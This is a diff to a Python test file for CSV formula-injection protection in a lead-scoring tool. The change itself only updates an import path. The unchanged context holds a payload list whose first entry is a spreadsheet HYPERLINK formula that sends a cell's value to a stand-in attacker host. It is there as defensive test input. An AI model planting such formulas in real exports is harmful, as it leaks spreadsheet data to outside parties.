@@ -1,6 +1,6 @@
 """Formula injection in the CSV LeadGrid writes (issue 20): a cell that a spreadsheet would run
 as a formula gets a leading single quote (OWASP), keeps its value readable, and numbers stay
-numbers. ``scoring.csvwrite.to_csv`` is used by ``score --out`` and ``matrix --format csv``."""
+numbers. ``scoring.data.csvwrite.to_csv`` is used by ``score --out`` and ``matrix --format csv``."""
 
 from __future__ import annotations
 
@@ -14,7 +14,7 @@ from clicases import MODEL_YAML, run
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from scoring.csvwrite import FORMULA_STARTS, neutralise, to_csv
+from scoring.data.csvwrite import FORMULA_STARTS, neutralise, to_csv
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',  # the issue's examples
